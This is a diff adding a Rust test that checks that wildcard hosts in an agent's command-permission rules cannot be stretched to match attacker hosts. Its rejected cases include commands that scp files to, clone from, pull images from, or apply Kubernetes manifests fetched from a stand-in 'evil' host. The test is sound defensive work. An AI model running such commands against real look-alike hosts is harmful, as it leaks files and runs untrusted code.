@@ -361,3 +361,68 @@ fn a_star_stands_for_no_settings_and_no_address_of_files() {
         ("ack --nopager *", &["ack --nopager x"], &["ack --nopager --ackrc=x y", "ack --nopager --pager=x y"]),
     ]);
 }
+
+/// The text of a star ends no host, so the call goes to no other one.
+#[test]
+fn a_star_in_a_host_stays_in_it() {
+    families(&[
+        (
+            "git ls-remote https://*.acme.com/site",
+            &["git ls-remote https://x.acme.com/site", "git ls-remote https://a.b.acme.com/site"],
+            &["git ls-remote https://evil/x.acme.com/site", "git ls-remote https://u@evil/x.acme.com/site"],
+        ),
+        (
+            "git clone https://*.acme.com/team/*",
+            &["git clone https://x.acme.com/team/a"],
+            &["git clone https://evil/x.acme.com/team/a"],
+        ),
+        (
+            "git clone git@*.acme.com:team/x.git",
+            &["git clone git@a.acme.com:team/x.git"],
+            &["git clone git@evil:x.acme.com:team/x.git"],
+        ),
+        (
+            "git clone *.acme.com:team/x.git",
+            &["git clone a.acme.com:team/x.git"],
+            &["git clone evil:x.acme.com:team/x.git"],
+        ),
+        (
+            "scp notes.txt *.acme.com:backup/",
+            &["scp notes.txt a.acme.com:backup/"],
+            &["scp notes.txt evil:x.acme.com:backup/"],
+        ),
+        (
+            "scp notes.txt web*.acme.com:/srv/",
+            &["scp notes.txt web1.acme.com:/srv/"],
+            &["scp notes.txt web:x.acme.com:/srv/"],
+        ),
+        ("scp *.txt web:backup/", &["scp notes/a.txt web:backup/"], &[]),
+        (
+            "rsync -a notes/ backup@nas*:dir/",
+            &["rsync -a notes/ backup@nas1:dir/"],
+            &["rsync -a notes/ backup@nas@evil:dir/"],
+        ),
+        ("ssh deploy@web* uptime", &["ssh deploy@web1 uptime"], &["ssh deploy@web@evil uptime"]),
+        (
+            "psql -h *.acme.com -c 'select 1'",
+            &["psql -h db.acme.com -c select␣1"],
+            &["psql -h evil,x.acme.com -c select␣1"],
+        ),
+        (
+            "psql postgresql://*.acme.com/app -c 'select 1'",
+            &["psql postgresql://db.acme.com/app -c select␣1"],
+            &["psql postgresql://evil/x.acme.com/app -c select␣1"],
+        ),
+        (
+            "kubectl apply -f https://*.acme.com/a.yml",
+            &["kubectl apply -f https://x.acme.com/a.yml"],
+            &["kubectl apply -f https://evil/x.acme.com/a.yml"],
+        ),
+        ("docker pull *.acme.com/app", &["docker pull hub.acme.com/app"], &["docker pull evil/x.acme.com/app"]),
+        ("docker -H ssh://*.acme.com ps", &["docker -H ssh://a.acme.com ps"], &["docker -H ssh://evil/.acme.com ps"]),
+    ]);
+    let covers =
+        |outer: &str, inner: &str| BOT.covers(&ToolPattern::parse(outer).unwrap(), &ToolPattern::parse(inner).unwrap());
+    assert!(covers("Bash(git clone https://*.acme.com/x)", "Bash(git clone https://a.acme.com/x)"));
+    assert!(!covers("Bash(git clone https://*.acme.com/x)", "Bash(git clone https://evil/a.acme.com/x)"));
+}
